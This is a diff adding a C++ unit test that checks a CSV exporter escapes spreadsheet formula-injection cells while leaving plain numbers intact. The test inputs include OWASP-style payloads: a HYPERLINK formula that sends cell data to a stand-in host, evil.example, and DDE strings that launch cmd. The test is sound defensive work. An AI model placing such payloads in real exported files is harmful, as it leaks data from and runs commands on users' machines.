@@ -598,3 +598,36 @@ TEST_CASE("views: a session's end summary") {
   CHECK(j.at("sets") == 5);
   CHECK(j.at("steps").at(0).at("progressed") == true);
 }
+
+TEST_CASE("CSV: formula injection is guarded (OWASP cases); plain numbers stay numbers") {
+  // OWASP "CSV Injection": cells a spreadsheet would run as a formula.
+  CHECK(csv_field("=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")") ==
+        "\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"Click\"\")\"");
+  CHECK(csv_field("=1+2") == "'=1+2");
+  CHECK(csv_field("+1+2") == "'+1+2");
+  CHECK(csv_field("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0");
+  CHECK(csv_field("@SUM(1+9)*cmd|' /C calc'!A0") == "'@SUM(1+9)*cmd|' /C calc'!A0");
+  CHECK(csv_field("\t=1+2") == "'\t=1+2");
+  CHECK(csv_field("\r=1+2") == "\"'\r=1+2\"");
+  CHECK(csv_field("=cmd|' /C notepad'!'A1',x") == "\"'=cmd|' /C notepad'!'A1',x\"");
+  CHECK(csv_field("-") == "'-");
+  CHECK(csv_field("+") == "'+");
+  // Numbers, including negative and exponent forms, stay numbers.
+  CHECK(csv_field("-12.5") == "-12.5");
+  CHECK(csv_field("+3") == "+3");
+  CHECK(csv_field("-1e3") == "-1e3");
+  CHECK(csv_field("1400") == "1400");
+  CHECK(csv_field("-.5") == "-.5");
+  CHECK(csv_field("-1e") == "'-1e");
+  CHECK(csv_field("-1.2.3") == "'-1.2.3");
+  // Text elsewhere: only RFC 4180 quoting; a formula sign inside is harmless.
+  CHECK(csv_field("Ann") == "Ann");
+  CHECK(csv_field("a=b") == "a=b");
+  CHECK(csv_field("Smith, Ann") == "\"Smith, Ann\"");
+  CHECK(csv_field("2026-03-01T10:00:00Z") == "2026-03-01T10:00:00Z");
+  CHECK(csv_field("") == "");
+  CHECK(is_plain_number("0"));
+  CHECK_FALSE(is_plain_number(""));
+  CHECK_FALSE(is_plain_number("."));
+  CHECK_FALSE(is_plain_number("1,5"));
+}
